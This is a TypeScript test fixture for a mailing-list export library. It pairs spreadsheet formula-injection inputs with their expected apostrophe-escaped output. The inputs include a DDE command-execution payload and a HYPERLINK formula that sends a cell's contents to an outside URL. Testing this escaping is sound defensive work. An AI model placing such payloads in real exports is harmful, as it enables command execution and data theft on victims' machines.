// A list with cells that a spreadsheet would run as formulas if they were written unchanged.
import { fromBlob, openList } from '@mailsift/intake/list'
import { layOut } from '../src/layout.ts'

/** As written in a list, and as shown by a spreadsheet. */
export const NASTY = new Map([
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  [
    '=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")',
    `'=HYPERLINK("http://contoso.com/?leak="&A1,"Open invoice")`,
  ],
  [' =1+1', "' =1+1"],
  ['\t=1+1', "'\t'=1+1"],
  ['two\n=1+1', "'two\n'=1+1"],
  ['two\n=1+1,b', "'two\n'=1+1,b"],
  ['＝1+1', "'＝1+1"],
  ['a;=1+1', "a;'=1+1"],
  ['a;=1+1;b', "a;'=1+1;b"],
  ['a,=1+1', "a,'=1+1"],
  ['a,=1+1,b', "a,'=1+1,b"],
  ['";=1+1', `";'=1+1`],
  ["'=1+1", "'=1+1"],
])

export async function written(excelSeparator: ',' | ';' | undefined): Promise<string> {
  const rows = [...NASTY.keys()].map((cell) => `ann.lee@contoso.com\t"${cell.replaceAll('"', '""')}"\tlast\n`)
  const list = await openList(fromBlob(new Blob([`email\tnote\tend\n${rows.join('')}`])))
  const { head, row } = layOut(list, excelSeparator)
  let text = `\ufeff${head.whole}${head.end}`
  for await (const batch of list.records([]))
    for (const record of batch) text += Object.values(row(record, true)).join('')
  return text
}
